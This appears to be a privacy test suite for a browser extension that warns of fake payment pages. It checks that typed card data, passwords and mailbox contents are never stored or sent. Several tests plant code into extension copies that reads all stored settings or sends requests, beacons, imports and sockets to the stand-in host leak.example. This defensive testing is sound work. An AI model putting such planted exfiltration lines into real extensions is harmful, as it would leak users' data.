// The promises: nothing typed is read, nothing leaves the device, a page learns nothing.
import assert from "node:assert/strict";
import { existsSync } from "node:fs";
import { after, before, describe, test } from "node:test";
import { BROWSERS, builtExtension, startBench } from "../lib/bench.mjs";
import { openPopup } from "../lib/popup.mjs";
import { until } from "../lib/until.mjs";
import { variantOf } from "../lib/variant.mjs";
import { CARD_FORM, document, fakePayment, fakeWithFrame, framedForm, plainPage } from "./pages.mjs";

const HOST = "espace-client-web.example";
/** A well-known mailbox: its address is mapped to this machine. */
const MAILBOX = "mail.google.com";

const FILLED = document(
  "Vos coordonnées",
  `<h1>Vos coordonnées</h1>${CARD_FORM}
  <form>
    <label>Ville <input id="city" value="SECRETPREFILLED"></label>
    <label>Remarque <textarea id="remark">SECRETAREA</textarea></label>
    <label>Mot de passe <input id="password" type="password" value="SECRETPASSWORD"></label>
    <div id="editor" contenteditable="true" role="textbox" aria-label="Message">SECRETEDITOR</div>
  </form>
  <p id="end"></p>`,
);

/** What is typed into each field; none of it may turn up anywhere, not by chance in a number or a digest either. */
const TYPED = { "#num": "4970101234567890", "#cvv": "zq7", "#city": "SECRETCITY", "#remark": "SECRETNOTE", "#editor": "SECRETLETTER" };

/** @type {Record<string, string>} */
const PAGES = { "/": plainPage(), "/filled": FILLED, "/fake": fakePayment() };

/** @type {import("../lib/sites.mjs").Routes} */
const routes = (host, path) => {
  if (host === MAILBOX) return { body: path === "/message" ? framedForm() : fakeWithFrame("/message") };
  return host === HOST && PAGES[path] ? { body: PAGES[path] } : null;
};

for (const name of BROWSERS) {
  describe(`privacy in ${name}`, () => {
    /** @type {import("../lib/bench.mjs").Bench} */
    let bench;
    before(async () => {
      bench = await startBench(name, routes);
    });
    after(() => bench?.close());

    test("what a visitor types is in no message and in no storage", async () => {
      const tab = await bench.openTab();
      await tab.visit(`https://${HOST}/filled`);
      // A card form at a place that names no one: the visitor goes on all the same.
      await tab.untilWarning();
      await tab.choose("proceed");
      await tab.untilPassed();
      await tab.page.click("#num");
      await until("the question", () => tab.question());
      await tab.answer("goOn");
      for (const [selector, value] of Object.entries(TYPED)) await tab.page.type(selector, value);
      assert.equal(await tab.page.$eval("#num", (field) => /** @type {HTMLInputElement} */ (field).value), TYPED["#num"]);
      // A change in earnest: the page is looked at once more, now with full fields.
      const marker = "Nouvelle étape du dossier";
      await tab.page.evaluate((text) => {
        const end = /** @type {HTMLElement} */ (globalThis.document.querySelector("#end"));
        const heading = globalThis.document.createElement("h2");
        heading.textContent = text;
        end.after(heading, Object.assign(globalThis.document.createElement("input"), { name: "code", placeholder: "Code SMS" }));
      }, marker);
      await until("a snapshot after the typing", async () => JSON.stringify(await bench.heard()).includes(marker));
      const kept = JSON.stringify([await bench.heard(), await bench.stored()]);
      for (const secret of [...Object.values(TYPED), "SECRETPREFILLED", "SECRETAREA", "SECRETPASSWORD", "SECRETEDITOR"]) {
        assert.ok(!kept.includes(secret), `${secret} was taken along`);
      }
      await tab.close();
    });

    test("a mailbox is not read, nor are its frames, and the popup says so", async () => {
      const said = async (/** @type {string} */ host) =>
        (await bench.heard()).filter(({ url }) => new URL(url).host === host).map(({ message }) => message.kind);
      const looks = async () => (await said(HOST)).filter((kind) => kind === "judge_page").length;
      const other = await bench.openTab();
      await other.visit(`https://${HOST}/`);
      const tab = await bench.openTab();
      await tab.visit(`https://${MAILBOX}/mail/u/0/`);
      await until("the frame to say that it is there", async () => (await said(MAILBOX)).includes("read_tab"));
      const popup = await openPopup(tab);
      assert.equal(popup.level, "clear");
      const title = await bench.control.evaluate(() => chrome.i18n.getMessage("popup_mailbox_title"));
      assert.ok(popup.text.includes(title), popup.text);
      // A change in earnest, first here and then on a page that is looked at again for it.
      const before = await looks();
      for (const { page } of [tab, other]) {
        await page.evaluate((form) => globalThis.document.body.insertAdjacentHTML("beforeend", form), CARD_FORM);
      }
      await until("another look at the other page", async () => (await looks()) > before);
      assert.deepEqual([...new Set(await said(MAILBOX))].toSorted(), ["judge_address", "read_tab"]);
      await tab.close();
      await other.close();
    });

    test("a visit makes the requests of the page and no other", async () => {
      const start = bench.sites.requests.length;
      const tab = await bench.openTab();
      await tab.visit(`https://${HOST}/fake`);
      await tab.untilWarning();
      await tab.close();
      const seen = bench.sites.requests.slice(start).filter(({ host, method }) => host === HOST && method !== "CONNECT");
      const paths = seen.map(({ method, path }) => `${method} ${path}`).filter((line) => line !== "GET /favicon.ico");
      assert.deepEqual(paths, ["GET /fake"]);
      assert.deepEqual(bench.strayRequests(), []);
    });

    test("what outlives the browser are settings, a counter and what the welcome page said, and no address", async () => {
      const tab = await bench.openTab();
      await tab.visit(`https://${HOST}/fake`);
      await tab.untilWarning();
      await tab.untilSettled(0);
      const { session, local } = await bench.stored();
      assert.deepEqual(Object.keys(local).toSorted(), ["disclosure", "settings", "tally"]);
      assert.ok(JSON.stringify(session).includes(HOST), "in memory it is known");
      assert.ok(!JSON.stringify(local).includes(HOST), JSON.stringify(local));
      await tab.close();
    });

    test("a page can neither see the extension's files nor speak to it", async () => {
      const tab = await bench.openTab();
      await tab.visit(`https://${HOST}/`);
      const origin = bench.browser.origin;
      const files = ["manifest.json", "pages/popup/popup.html", "content/main.js", "background/main.js", "wasm/vigicolis_bg.wasm"];
      for (const file of files) assert.ok(existsSync(builtExtension(name) + file), file);
      const loaded = await tab.page.evaluate(
        (addresses) =>
          Promise.all(
            addresses.map((address) =>
              fetch(address).then(
                () => address,
                () => null,
              ),
            ),
          ),
        files.map((file) => `${origin}/${file}`),
      );
      assert.deepEqual(loaded.filter(Boolean), []);
      await tab.untilSettled(0);
      const said = async () => (await bench.heard()).filter((one) => one.tab === tab.id);
      const before = await said();
      const found = await tab.page.evaluate(() => {
        window.postMessage({ kind: "judge_page" }, "*");
        window.dispatchEvent(new CustomEvent("vigicolis"));
        return {
          runtime: typeof (/** @type {any} */ (globalThis).chrome?.runtime?.sendMessage),
          own: Object.keys(globalThis).filter((key) => /vigi|colis|snapshot|banner/i.test(key)),
          tree: [...globalThis.document.documentElement.children].map((child) => child.localName),
          marks: globalThis.document.documentElement.getAttributeNames(),
        };
      });
      assert.deepEqual(found, { runtime: "undefined", own: [], tree: ["head", "body"], marks: ["lang"] });
      await tab.untilSettled(0);
      assert.deepEqual(await said(), before);
      await tab.close();
    });

    test("a page can't read the warning", async () => {
      const tab = await bench.openTab();
      await tab.visit(`https://${HOST}/fake`);
      await tab.untilWarning();
      const text = await tab.page.evaluate(() =>
        [...globalThis.document.documentElement.children].map((child) => `${child.shadowRoot} ${child.textContent}`).slice(2),
      );
      for (const each of text) assert.equal(each, "null ");
      await tab.close();
    });
  });

  // Without this, the tests above would also pass with a blind watch, and all other files with it.
  test(`a page's process can't read or change what the visitor chose in ${name}${name === "chromium" ? "" : " (not there: it can)"}`, async () => {
    const { extension, remove } = variantOf(name, {
      "content/warn/words.js": (text) => `${text}
        if (location.pathname === "/taken-over") chrome.storage.local.get(null).then(
          (had) => chrome.runtime.sendMessage({ kind: "read", had }), () => chrome.runtime.sendMessage({ kind: "refused" }));`,
    });
    const bench = await startBench(name, () => ({ body: plainPage() }), { extension });
    try {
      await bench.control.evaluate(() => chrome.runtime.sendMessage({ kind: "change_lock", code: "", wanted: "4711" }));
      const tab = await bench.openTab();
      await tab.page.goto(`https://${HOST}/taken-over`);
      const said = await until("its word", async () => (await bench.heard()).map(({ message }) => message).find(({ kind }) => kind === "read" || kind === "refused"));
      // Firefox lets no extension keep its storage from its content scripts.
      if (name === "chromium") assert.deepEqual(said, { kind: "refused" });
    } finally {
      await bench.close();
      remove();
    }
  });

  test(`planted requests of the background and of a page are noticed in ${name}`, async () => {
    const { extension, remove } = variantOf(name, {
      "background/main.js": (text) => `${text}\nfetch("https://leak.example/background").catch(() => {});\n`,
      "pages/popup/popup.js": (text) => `${text}\nnew Image().src = "https://leak.example/page";\n`,
      "manifest.json": (text) => {
        const manifest = JSON.parse(text);
        manifest.content_security_policy = { extension_pages: "script-src 'self' 'wasm-unsafe-eval'" };
        return JSON.stringify(manifest);
      },
    });
    const bench = await startBench(name, routes, { extension });
    try {
      const tab = await bench.openTab();
      await tab.visit(`https://${HOST}/`);
      for (const path of ["/background", "/page"]) {
        await until(`the request of ${path}`, () => bench.ownRequests().some((request) => request.host === "leak.example" && request.path === path));
      }
      assert.ok(bench.strayRequests().some(({ host }) => host === "leak.example"));
      await assert.rejects(bench.close(), /leak\.example/);
    } finally {
      remove();
    }
  });

  test(`the browser lets neither the background nor a page of the extension ask anybody in ${name}`, async () => {
    const asking = (/** @type {string} */ where) => `
for (const [way, ask] of Object.entries({
  fetch: () => fetch("https://leak.example/fetch"),
  plain: () => fetch("http://leak.example/plain"),
  import: () => import("https://leak.example/import.js"),
  socket: () => new Promise((_, refuse) => { const socket = new WebSocket("wss://leak.example/socket"); socket.onerror = refuse; socket.onclose = refuse; }),
})) {
  let end = "refused";
  Promise.resolve().then(ask).then(() => (end = "answered"), () => undefined)
    .then(() => chrome.storage.session.set({ ["${where} " + way]: end }));
}`;
    const { extension, remove } = variantOf(name, {
      "background/main.js": (text) => text + asking("background"),
      "pages/popup/popup.js": (text) => text + asking("page"),
    });
    const bench = await startBench(name, routes, { extension });
    try {
      const ends = ["background", "page"].flatMap((where) => ["fetch", "plain", "import", "socket"].map((way) => [`${where} ${way}`, "refused"]));
      await until("all ways to be refused", async () => {
        const { session } = await bench.stored();
        return ends.every(([key = "", end]) => /** @type {any} */ (session)[key] === end);
      });
      assert.deepEqual(bench.sites.requests.filter(({ host }) => host === "leak.example"), []);
    } finally {
      await bench.close();
      remove();
    }
  });
}
